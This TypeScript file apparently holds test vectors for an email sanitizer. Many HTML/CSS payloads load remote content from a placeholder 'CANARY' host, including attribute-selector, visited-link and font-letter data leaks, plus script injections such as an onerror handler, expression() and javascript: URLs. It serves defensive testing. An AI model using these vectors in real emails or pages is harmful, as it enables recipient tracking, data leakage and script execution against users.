import type { Vectors } from './vector.ts'

const rule = (declarations: string) => `<style>p{${declarations}}</style><p>Dear all</p>`
/** An email's head styles are not shown, so text precedes the styles. */
const afterWords = (styles: Vectors): Vectors =>
  Object.fromEntries(Object.entries(styles).map(([name, html]) => [name, `<p>Dear all</p>${html}`]))

export const styleVectors: Vectors = afterWords({
  import: '<style>@import url(https://CANARY/import.css);</style>',
  'import by a string': '<style>@import "https://CANARY/import.css";</style>',
  'import with escapes': '<style>@\\69mport "https://CANARY/escaped.css";</style>',
  'import with an escaped address': '<style>@import "\\68ttps://CANARY/escaped.css";</style>',
  'import into a layer': '<style>@import url(https://CANARY/layer.css) layer(x) supports(display:block);</style>',
  'import after a comment': '<style>/**/@import/**/"https://CANARY/comment.css";</style>',
  'import after a charset': '<style>@charset "utf-7";@import "https://CANARY/charset.css";</style>',
  'import of a data style sheet': '<style>@import "data:text/css,@import url(https://CANARY/nested.css);";</style>',
  background: rule('background:url(https://CANARY/background.gif)'),
  'background without a scheme': rule('background:url(//CANARY/background.gif)'),
  'background with quotes': rule('background:url("https://CANARY/quoted.gif")'),
  'background with escapes': rule('background:\\75rl(https://CANARY/escaped.gif)'),
  'background with an escaped colon': rule('background:url(https\\3a //CANARY/colon.gif)'),
  'background with a comment': rule('background:/*x*/url(https://CANARY/comment.gif)'),
  'background in an attribute': '<p style="background:url(https://CANARY/attribute.gif)">x</p>',
  'background in an attribute by entities': '<p style="background:url(&#104;ttps://CANARY/entities.gif)">x</p>',
  'background of a first letter': '<style>p::first-letter{background:url(https://CANARY/letter.gif)}</style><p>x</p>',
  'background of the root': '<style>:root,html{background:url(https://CANARY/root.gif)!important}</style>',
  'background of the product': rule('background:url(/favicon.svg)'),
  'background at a height':
    '<style>@media (min-height:1px){p{background:url(https://CANARY/media.gif)}}</style><p>x</p>',
  'background by a container':
    '<style>div{container-type:size}@container (min-width:0){p{background:url(https://CANARY/container.gif)}}</style><div><p>x</p></div>',
  'background that waits for the pointer':
    '<style>p:hover,p:active{background:url(https://CANARY/hover.gif)}</style><p>x</p>',
  'background when printed': '<style>@media print{body{background:url(https://CANARY/print.gif)}}</style><p>x</p>',
  'background in a layer, nested':
    '<style>@layer x{div{& p{background:url(https://CANARY/layered.gif)}}}</style><div><p>x</p></div>',
  'background in a scope': '<style>@scope (body){p{background:url(https://CANARY/scope.gif)}}</style><p>x</p>',
  'background by a variable': rule('--x:url(https://CANARY/variable.gif);background:var(--x)'),
  'background by a registered property':
    '<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(https://CANARY/property.gif)}p{background:var(--x)}</style><p>x</p>',
  'background by a condition': rule('background:if(media(all):url(https://CANARY/if.gif);else:none)'),
  'background of an attribute':
    '<style>p{background:image-set(attr(title))}</style><p title="https://CANARY/attr.gif">x</p>',
  'image-set': rule('background:image-set("https://CANARY/set.gif" 1x)'),
  'prefixed image-set': rule('background:-webkit-image-set(url(https://CANARY/webkit-set.gif) 1x)'),
  'cross-fade': rule('background:-webkit-cross-fade(url(https://CANARY/fade.gif),url(https://CANARY/fade2.gif),50%)'),
  'address with a referrer policy': rule('background:url("https://CANARY/policy.gif" referrer-policy(unsafe-url))'),
  'address with an origin': rule('background:url("https://CANARY/cors.gif" cross-origin(use-credentials))'),
  'border-image': rule('border:9px solid;border-image:url(https://CANARY/border.gif) 9'),
  'list-style': '<ul style="list-style-image:url(https://CANARY/list.gif)"><li>x</ul>',
  content: '<style>p::before{content:url(https://CANARY/content.gif)}</style><p>x</p>',
  'content of the element': rule('content:url(https://CANARY/element.gif)'),
  cursor: rule('cursor:url(https://CANARY/cursor.cur),auto'),
  mask: rule('mask:url(https://CANARY/mask.gif)'),
  'prefixed mask': rule('-webkit-mask-image:url(https://CANARY/webkit-mask.gif)'),
  'mask of a border': rule('-webkit-mask-box-image:url(https://CANARY/mask-box.gif)'),
  reflection: rule('-webkit-box-reflect:below 0 url(https://CANARY/reflect.gif)'),
  shape: rule('float:left;shape-outside:url(https://CANARY/shape.gif)'),
  filter: rule('filter:url(https://CANARY/filter.svg#f)'),
  'backdrop filter': rule('backdrop-filter:url(https://CANARY/backdrop.svg#f)'),
  'clip-path': rule('clip-path:url(https://CANARY/clip.svg#c)'),
  'offset-path': rule('offset-path:url(https://CANARY/path.svg#p)'),
  font: '<style>@font-face{font-family:x;src:url(https://CANARY/font.woff2)}p{font-family:x}</style><p>x</p>',
  'font by letters':
    '<style>@font-face{font-family:x;src:url(https://CANARY/A.woff);unicode-range:U+41}p{font-family:x}</style><p>A</p>',
  'font of the product': '<style>@font-face{font-family:x;src:url(/favicon.svg)}p{font-family:x}</style><p>x</p>',
  'colors of a font':
    '<style>@font-face{font-family:x;src:url(https://CANARY/f.woff2)tech(color-COLRv1)}p{font:9px x}</style><p>x</p>',
  'counter style':
    '<style>@counter-style x{system:cyclic;symbols:url(https://CANARY/symbol.gif)}li{list-style:x}</style><li>x</li>',
  'animation of a background':
    '<style>@keyframes x{to{background:url(https://CANARY/frames.gif)}}p{animation:x 1ms forwards}</style><p>x</p>',
  'view transition':
    '<style>@view-transition{navigation:auto}::view-transition{background:url(https://CANARY/view.gif)}</style>',
  'selector of an attribute':
    '<style>a[href^="https://firm"]{background:url(https://CANARY/leak-a)}</style><a href="https://firm.example/">x</a>',
  'selector of a visited link':
    '<style>a:visited{background:url(https://CANARY/visited)}a:link{background:url(https://CANARY/link)}</style><a href="https://firm.example">x</a>',
  'selector of contents': '<style>body:has(p){background:url(https://CANARY/has)}</style><p>x</p>',
  'style that ends in its text': '<style>p{font-family:"</style><img src=x onerror=PWN>"}</style>',
  'style by a type':
    '<style type="text/x" media=all>p{background:url(https://CANARY/typed.gif)}</style><style type=text/css>@import url(https://CANARY/css-type);</style>',
  'style in the frame of an SVG':
    '<svg><style>@import url(https://CANARY/svg.css);*{background:url(https://CANARY/svg.gif)}</style></svg>',
  expression: '<p style="width:expression(PWN)">x</p>',
  'background of an attribute that is a script':
    '<table background="javascript:PWN"><td background="vbscript:x">x</table>',
  'style of a link element':
    '<link rel=stylesheet href="data:text/css,p{background:url(https://CANARY/data-css.gif)}"><p>x</p>',
})
